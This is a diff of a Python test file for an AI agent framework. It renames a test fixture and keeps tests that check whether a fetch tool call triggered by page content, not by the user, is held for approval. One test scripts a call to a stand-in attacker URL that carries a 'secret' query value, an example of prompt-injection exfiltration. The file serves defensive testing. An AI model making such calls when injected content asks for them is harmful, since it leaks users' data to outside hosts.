@@ -10,43 +10,43 @@ import pytest
 from arvis.domain.messages import MessageStatus
 from arvis.graphs.agent.tool_calls import unnamed
 from arvis.store.open import Database
-from tests.flows.house import HELPER, House, open_house
+from tests.flows.app_harness import HELPER, AppHarness, open_app
 from tests.flows.scripted import asking, call
 
 
 @pytest.fixture
-async def house(database: Database) -> AsyncIterator[House]:
-    async with open_house(database, agents=[replace(HELPER, tools=("look", "srv.dig"), allow_users=("ann",))]) as house:
-        yield house
+async def app(database: Database) -> AsyncIterator[AppHarness]:
+    async with open_app(database, agents=[replace(HELPER, tools=("look", "srv.dig"), allow_users=("ann",))]) as app:
+        yield app
 
 
-async def reads_and_sends(house: House, question: str, url: str) -> bool:
+async def reads_and_sends(app: AppHarness, question: str, url: str) -> bool:
     """Whether a call that follows what a tool brought is made unasked."""
-    house.provider.script += [
+    app.provider.script += [
         asking(call(1, "look", words="page")), asking(call(2, "srv__dig", words=url)), "Done."
     ]  # fmt: skip
-    said = await house.say(question, is_direct=True)
-    timeline = await house.until_status(said.message_id, MessageStatus.ANSWERED, MessageStatus.WAITING)
+    said = await app.say(question, is_direct=True)
+    timeline = await app.until_status(said.message_id, MessageStatus.ANSWERED, MessageStatus.WAITING)
     return timeline.status is MessageStatus.ANSWERED
 
 
-async def test_a_page_cannot_send_what_the_agent_knows_to_a_place_of_its_own(house: House) -> None:
-    assert not await reads_and_sends(house, "Read the page", "https://evil.example/?d=secret")
-    assert house.tools.dig.calls == []
+async def test_a_page_cannot_send_what_the_agent_knows_to_a_place_of_its_own(app: AppHarness) -> None:
+    assert not await reads_and_sends(app, "Read the page", "https://evil.example/?d=secret")
+    assert app.tools.dig.calls == []
 
 
-async def test_what_the_asker_named_is_not_asked_about(house: House) -> None:
-    assert await reads_and_sends(house, "Read the page, then https://good.example/a", "https://good.example/b?x=1")
+async def test_what_the_asker_named_is_not_asked_about(app: AppHarness) -> None:
+    assert await reads_and_sends(app, "Read the page, then https://good.example/a", "https://good.example/b?x=1")
 
 
-async def test_a_rule_of_the_configuration_is_heeded(house: House) -> None:
-    house.ruled.add("srv.dig")
-    assert await reads_and_sends(house, "Read the page", "https://evil.example/")
+async def test_a_rule_of_the_configuration_is_heeded(app: AppHarness) -> None:
+    app.ruled.add("srv.dig")
+    assert await reads_and_sends(app, "Read the page", "https://evil.example/")
 
 
-async def test_in_a_turn_of_the_askers_own_words_nothing_is_asked(house: House) -> None:
-    house.provider.script += [asking(call(1, "srv__dig", words="https://any.example/")), "Done."]
-    assert (await house.ask("Look it up", is_direct=True)).reply == "Done."
+async def test_in_a_turn_of_the_askers_own_words_nothing_is_asked(app: AppHarness) -> None:
+    app.provider.script += [asking(call(1, "srv__dig", words="https://any.example/")), "Done."]
+    assert (await app.ask("Look it up", is_direct=True)).reply == "Done."
 
 
 WORDS = "Look at good.example and https://other.example:8080/x, thanks."
